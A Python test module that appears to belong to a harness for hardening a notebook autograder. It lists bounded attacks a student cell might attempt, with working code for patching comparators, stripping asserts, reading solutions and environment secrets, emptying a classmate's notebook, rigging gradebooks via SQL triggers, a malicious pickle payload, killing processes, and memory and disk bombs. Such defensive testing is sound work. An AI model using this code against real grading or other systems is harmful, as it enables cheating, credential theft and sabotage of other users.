"""The attacks that `attacks.py` tries: what a student writes in place of one answer.

Each knows more than a student would: `PLACES` names the files and the port it is after.
All are bounded: they reach only the folders of their own trial and this machine's
loopback, take at most 2.3 GB and 208 MB of disk, and end by themselves.
"""

from dataclasses import dataclass

QUESTION = "conv2d_valid"  # the one that is attacked; the others are answered rightly
MEMORY_MB, DISK_MB = 2300, 208
LIFE_SECONDS = 120  # of what is left running

RIGHT = """
def conv2d_valid(x, w, b):
    y = F.conv2d(torch.tensor(x)[None], torch.tensor(w), torch.tensor(b))
    return y[0].numpy()
"""
WRONG = """
def conv2d_valid(x, w, b):
    return np.zeros(1)
"""
STUB = """
def conv2d_valid(x, w, b):
    raise NotImplementedError
"""
# Prints what was found, for the feedback, and leaves it where a friend can fetch it.
TELL = """
def tell(found):
    print(found)
    try:
        open(PLACES["drop"] + "/found", "a").write(str(found))
    except OSError:
        pass
"""
PATCH = """
def patch(*args, **kwargs):
    import numpy.testing
    def yes(*args, **kwargs): return True
    for module in (np, torch):
        for name in ("allclose", "isclose", "array_equal", "equal"):
            setattr(module, name, yes)
    np.testing.assert_allclose = yes
"""


@dataclass(frozen=True)
class Attack:
    """One attempt.

    Attributes:
        name: of the attack, for the table.
        source: the cell, with a wrong answer unless `right`.
        gain: what it is for.
        right: the answer is right, and the mark may be lost.
        again: a second cell with the same identity, below the first.
    """

    name: str
    source: str
    gain: str
    right: bool = False
    again: str = ""


ATTACKS = (
    Attack("none: a right answer", RIGHT, "nothing; a control", right=True),
    Attack("none: a wrong answer", WRONG, "nothing; a control"),
    Attack(
        "patched comparators",
        f"{PATCH}\npatch()\n{WRONG}",
        "every comparison says yes",
    ),
    Attack(
        "patched builtins",
        f"""
import ast, builtins
real = compile
class Strip(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.copy_location(ast.Pass(), node)
def patched(source, filename, mode, flags=0, *rest, **options):
    if mode == "exec":
        source = Strip().visit(real(source, filename, mode, ast.PyCF_ONLY_AST))
        if flags & ast.PyCF_ONLY_AST: return source
    return real(source, filename, mode, flags, *rest, **options)
builtins.compile = patched
{WRONG}""",
        "tests that test nothing",
    ),
    Attack(
        "syntax tree without asserts",
        f"""
import ast
class Strip(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.copy_location(ast.Pass(), node)
get_ipython().ast_transformers.append(Strip())
{WRONG}""",
        "tests that test nothing",
    ),
    Attack(
        "input transformer",
        f"""
get_ipython().input_transformers_post.append(
    lambda lines: [line for line in lines if not line.startswith("assert")])
{WRONG}""",
        "tests that test nothing",
    ),
    Attack(
        "hook before each cell",
        f"""{PATCH}
get_ipython().events.register("pre_run_cell", patch)
{WRONG}""",
        "comparators patched after the grader has mended them",
    ),
    Attack(
        "thread that keeps patching",
        f"""{PATCH}
import threading, time
def keep_patching():
    until = time.time() + {LIFE_SECONDS}
    while time.time() < until:
        patch()
        time.sleep(0.001)
threading.Thread(target=keep_patching).start()
{WRONG}""",
        "the same, and a process that does not end",
    ),
    Attack(
        "display of a grade",
        """
import sys
def conv2d_valid(x, w, b):
    sys.displayhook("full marks")
    return np.zeros(1)
""",
        "an output that is read as a mark",
    ),
    Attack(
        "patched checker",
        f"""
try:
    from otter.test_files.exception_test import test_case
    test_case.call_func = lambda self, environment: None
except ImportError:
    pass
import IPython.core.interactiveshell as shell
shell.ExecutionResult.success = True
get_ipython()._showtraceback = lambda *args: None
{WRONG}""",
        "results that say passed",
    ),
    Attack(
        "array that lies",
        """
class Liar(np.ndarray):
    def __array_function__(self, *args, **kwargs): return True
    def __array_ufunc__(self, *args, **kwargs): return np.array(True)
    def __eq__(self, other): return True
def conv2d_valid(x, w, b):
    return np.zeros(1).view(Liar)
""",
        "a result that equals anything",
    ),
    Attack(
        "expected value in a frame",
        """
import gc, sys
def conv2d_valid(x, w, b):
    frame = sys._getframe(1)
    while frame:
        for names in (frame.f_locals, frame.f_globals):
            if "expected" in names:
                return names["expected"]
        frame = frame.f_back
    for thing in gc.get_objects():
        if type(thing) is dict and "expected" in thing:
            return thing["expected"]
    return np.zeros(1)
""",
        "the expected value, returned",
    ),
    Attack(
        "reading the solution and tests",
        f"""{TELL}
import glob
for path in [*PLACES["solutions"], *glob.glob("**/*.py", recursive=True)]:
    try:
        tell(open(path).read())
    except OSError:
        pass
{WRONG}""",
        "the solution and the hidden tests",
    ),
    Attack(
        "reading a neighbor's submission",
        f"""{TELL}
tell(open(PLACES["neighbor"]).read())
{WRONG}""",
        "somebody else's answers",
    ),
    Attack(
        "emptying a neighbor's submission",
        f"""
import json
text = '{{"cells": [], "metadata": {{}}, "nbformat": 4, "nbformat_minor": 5}}'
open(PLACES["neighbor"], "w").write(text)
{WRONG}""",
        "a rival without marks",
    ),
    Attack(
        "reading the environment",
        f"""{TELL}
import os
tell(dict(os.environ))
tell(open(f"/proc/{{os.getppid()}}/environ").read())
{WRONG}""",
        "the grader's tokens and passwords",
    ),
    Attack(
        "network",
        f"""
import socket
with socket.create_connection(("127.0.0.1", PLACES["port"]), 5) as connection:
    connection.sendall(b"all that I have seen")
{WRONG}""",
        "a way out for everything above",
    ),
    Attack(
        "process that stays",
        f"""
import subprocess, sys
nothing = subprocess.DEVNULL
subprocess.Popen(
    [sys.executable, "-c", "import time; time.sleep({LIFE_SECONDS})"],
    stdin=nothing, stdout=nothing, stderr=nothing, start_new_session=True)
{WRONG}""",
        "time on the machine, after the grading",
    ),
    Attack(
        "killing the parent",
        f"""
import os, signal
if os.getppid() > 1:
    os.kill(os.getppid(), signal.SIGKILL)
{WRONG}""",
        "no marks for anyone",
    ),
    Attack(
        "start-up file for the next kernel",
        f"""
import os
folder = PLACES["home"] + "/.ipython/profile_default/startup"
os.makedirs(folder, exist_ok=True)
open(folder + "/00-friend.py", "w").write("import numpy\\nnumpy.zeros = None\\n")
{WRONG}""",
        "code in the next student's grading",
    ),
    Attack(
        "writing the gradebook",
        f"""
import os, sqlite3
for path in filter(os.path.exists, PLACES["gradebooks"]):
    book = sqlite3.connect(path, timeout=5)
    for table, change in (
        ("grade", "manual_score = 3"), ("results", "points = possible"),
    ):
        for moment in ("INSERT", "UPDATE"):
            try:
                book.execute(
                    f"CREATE TRIGGER gift_{{table}}_{{moment}} AFTER {{moment}} "
                    f"ON {{table}} BEGIN UPDATE {{table}} SET {{change}}; END")
            except sqlite3.Error:
                pass
    book.commit()
{WRONG}""",
        "marks without any answer",
    ),
    Attack(
        "object that runs when unpickled",
        f"""
import pickle
write = "import os; open({{!r}}, 'w').write(str(os.getpid()))"
class Gift:
    def __reduce__(self):
        return exec, (write.format(PLACES["drop"] + "/grader"),)
def dump(results, file, *args, **kwargs):
    file.write(pickle.dumps(Gift()))
pickle.dump = dump
{WRONG}""",
        "code in the grader's own process",
    ),
    Attack(
        "memory bomb",
        f"""
import time
def conv2d_valid(x, w, b):
    kept = [np.ones(100 << 20, "u1") for _ in range({MEMORY_MB} // 100)]
    time.sleep(1)
    return np.zeros(1)
""",
        "a machine out of memory",
    ),
    Attack(
        "filling the disk",
        f"""
import tempfile
for folder in (PLACES["drop"], PLACES["home"], tempfile.gettempdir(), "."):
    try:
        for number in range({DISK_MB} // 16):
            with open(f"{{folder}}/filling-{{number}}", "wb") as file:
                file.write(bytes(16 << 20))
        break
    except OSError:
        pass
{WRONG}""",
        "a machine without disk",
    ),
    Attack(
        "endless loop",
        """
def conv2d_valid(x, w, b):
    while True:
        pass
""",
        "marks for nobody, in time",
    ),
    Attack(
        "sys.exit() in an answer",
        """
import sys
def conv2d_valid(x, w, b):
    sys.exit()
""",
        "nothing: a mistake that costs the other answers",
    ),
    Attack(
        "process that dies in an answer",
        """
import os
def conv2d_valid(x, w, b):
    os._exit(1)
""",
        "nothing: as a crash in a library, or the kernel's killer when memory ends",
    ),
    Attack(
        "warning from a right answer",
        RIGHT.replace("    y =", '    warnings.warn("slow")\n    y =', 1).replace(
            "\ndef", "\nimport warnings\ndef", 1
        ),
        "nothing: an honest mark that may be lost",
        right=True,
    ),
    Attack(
        "stub again below a right answer",
        RIGHT,
        "nothing: a cell copied by mistake",
        right=True,
        again=STUB,
    ),
)
